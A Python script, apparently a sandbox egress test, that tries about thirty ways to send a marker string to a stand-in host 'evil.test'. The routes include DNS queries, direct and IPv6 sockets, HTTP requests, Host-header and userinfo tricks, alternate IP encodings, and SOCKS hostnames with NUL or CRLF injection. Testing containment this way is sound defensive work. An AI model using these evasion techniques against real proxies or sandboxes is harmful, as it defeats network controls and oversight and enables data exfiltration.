"""Ways to get a word out of a sandbox: drills.py GOOD_PORT EVIL_PORT. Each way says its own name; nothing is printed that is not about it."""

import os
import socket
import struct
import sys
import urllib.request

GOOD, EVIL = int(sys.argv[1]), int(sys.argv[2])
PROXY = ("127.0.0.1", int(os.environ["HTTPS_PROXY"].rsplit(":", 1)[1]))
WAYS = []


def way(work):
    WAYS.append(work)
    return work


def word(name):
    return f"word-{name}".encode()


def talk(to, *said, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as out:
        out.settimeout(20)
        out.connect(to)
        heard = b""
        for one in said:
            out.sendall(one)
            heard = out.recv(4096)
            if not heard:
                break
        return heard


def connect_line(host):
    return f"CONNECT {host}:{EVIL} HTTP/1.1\r\nHost: good.test\r\n\r\n".encode()


def tunnelled(host, name):
    return talk(PROXY, connect_line(host), word(name))


def socks(name, then):
    return talk(PROXY, b"\x05\x01\x00", b"\x05\x01\x00\x03" + bytes([len(name)]) + name + struct.pack(">H", EVIL), then)


@way
def name_lookup():
    socket.getaddrinfo("word-name_lookup.evil.test", EVIL)


@way
def name_of_type_text():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.settimeout(5)
        head = struct.pack(">HHHHHH", 1, 0x0100, 1, 0, 0, 0)
        labels = b"".join(bytes([len(one)]) + one for one in (b"word-text", b"evil", b"test"))
        out.sendto(head + labels + b"\0" + struct.pack(">HH", 16, 1), ("127.0.0.1", 53))
        out.recv(512)


@way
def datagram_to_a_name_server():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.sendto(word("datagram"), ("8.8.8.8", 53))


@way
def datagram_to_this_machine():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.sendto(word("datagram"), ("127.0.0.1", EVIL))


@way
def echo_request():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)


@way
def plain_request():
    urllib.request.urlopen(f"http://evil.test:{EVIL}/", data=word("plain_request"), timeout=20)


@way
def names_over_http():
    asked = urllib.request.Request(f"http://evil.test:{EVIL}/dns-query", data=word("names_over_http"))
    urllib.request.urlopen(asked, timeout=20)


@way
def another_spelling():
    talk(PROXY, f"POST http://EVIL.test.:{EVIL}/ HTTP/1.1\r\nHost: good.test\r\nContent-Length: 21\r\n\r\n".encode() + word("another_spelling"))


@way
def a_user_before_the_host():
    talk(PROXY, f"GET http://good.test@evil.test:{EVIL}/word-a_user HTTP/1.1\r\nHost: good.test\r\n\r\n".encode())


@way
def another_scheme():
    talk(PROXY, f"GET ftp://evil.test:{EVIL}/word-another_scheme HTTP/1.1\r\nHost: evil.test\r\n\r\n".encode())


@way
def only_a_header():
    talk(PROXY, f"GET http://good.test:{GOOD}/ HTTP/1.1\r\nHost: evil.test:{EVIL}\r\nX-Word: only_a_header\r\n\r\n".encode())


@way
def redirect_of_a_good_host():
    urllib.request.urlopen(f"http://good.test:{GOOD}/to-evil/word-redirect_of_a_good_host", timeout=20)


@way
def an_upgrade():
    talk(PROXY, f"GET http://evil.test:{EVIL}/word-an_upgrade HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n".encode())


@way
def tunnel_to_a_name():
    tunnelled("evil.test", "tunnel_to_a_name")


@way
def tunnel_to_an_address():
    tunnelled("127.0.0.1", "tunnel_to_an_address")


@way
def tunnel_to_a_number():
    tunnelled("2130706433", "tunnel_to_a_number")


@way
def tunnel_to_octets():
    tunnelled("0177.0.0.1", "tunnel_to_octets")


@way
def tunnel_to_an_address_in_another():
    tunnelled("[::ffff:127.0.0.1]", "tunnel_to_an_address_in_another")


@way
def tunnel_through_nat64():
    tunnelled("[64:ff9b::7f00:1]", "tunnel_through_nat64")


@way
def tunnel_through_6to4():
    tunnelled("[2002:7f00:1::]", "tunnel_through_6to4")


@way
def tunnel_with_a_zone():
    tunnelled("[fe80::1%25lo]", "tunnel_with_a_zone")


@way
def socks_to_a_name():
    socks(b"evil.test", word("socks_to_a_name"))


@way
def socks_with_a_nul():
    socks(b"evil.test\x00.good.test", word("socks_with_a_nul"))


@way
def socks_with_a_line():
    socks(b"good.test\r\nevil.test", word("socks_with_a_line"))


@way
def socks_to_a_number():
    socks(b"0x7f.1", word("socks_to_a_number"))


@way
def socks_to_an_address():
    ask = b"\x05\x01\x00\x01" + bytes([127, 0, 0, 1]) + struct.pack(">H", EVIL)
    talk(PROXY, b"\x05\x01\x00", ask, word("socks_to_an_address"))


@way
def straight_to_an_address():
    talk(("127.0.0.1", EVIL), word("straight_to_an_address"))


@way
def straight_over_ipv6():
    talk(("::1", EVIL), word("straight_over_ipv6"), family=socket.AF_INET6)


@way
def straight_to_a_name():
    talk(("evil.test", EVIL), word("straight_to_a_name"))


@way
def a_socket_of_the_workspace():
    talk("evil.sock", word("a_socket_of_the_workspace"), family=socket.AF_UNIX)


@way
def a_socket_without_a_file():
    talk(f"\0oversign-drill-{EVIL}", word("a_socket_without_a_file"), family=socket.AF_UNIX)


for one in WAYS:
    try:
        one()
    except Exception as error:
        print(one.__name__, type(error).__name__)
